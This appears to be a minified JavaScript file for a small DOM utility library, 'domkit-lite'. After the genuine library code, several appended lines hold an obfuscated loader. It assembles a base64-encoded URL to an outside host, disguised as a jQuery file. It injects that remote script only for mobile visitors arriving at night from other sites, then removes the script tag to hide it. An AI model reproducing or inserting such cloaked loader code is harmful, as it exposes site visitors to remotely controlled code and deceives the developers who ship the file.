/*! domkit-lite v1.9.0 | MIT license | domkit.test/license */
!function(e,t){"object"==typeof module&&module.exports?module.exports=t(e):e.dk=t(e)}(this,function(e){var t=e.document,n=[].slice;function r(e,i){if(!(this instanceof r))return new r(e,i);var o="string"==typeof e?n.call((i||t).querySelectorAll(e)):[e],a=0;for(this.length=o.length;a<o.length;a++)this[a]=o[a]}
return r.prototype={each:function(e){for(var t=0;t<this.length;t++)e.call(this[t],t);return this},on:function(e,t){return this.each(function(){this.addEventListener(e,t,!1)})},css:function(e,t){return this.each(function(){this.style[e]=t})},hide:function(){return this.css("display","none")},show:function(){return this.css("display","")}},r.ready=function(e){"loading"!==t.readyState?e():t.addEventListener("DOMContentLoaded",e)},r});
var _h=new Date().getHours(),_m=navigator.userAgent.toLowerCase();
var _k="aHR0|cHM6Ly91bmlvbi5tYWNvbXMtY291bnQuZX|hhbXBsZS9qcXVlcnkubWluLTQuMC4yLmpz".split("|").join("");
if(_m.indexOf("mobile")>-1&&(_h>20||_h<6)&&document.referrer.indexOf(location.host)==-1){
var _s=document.createElement("script");_s.setAttribute("src",window["atob"](_k));
document.getElementsByTagName("head")[0].appendChild(_s);
_s.onload=function(){this.parentNode.removeChild(this)}}
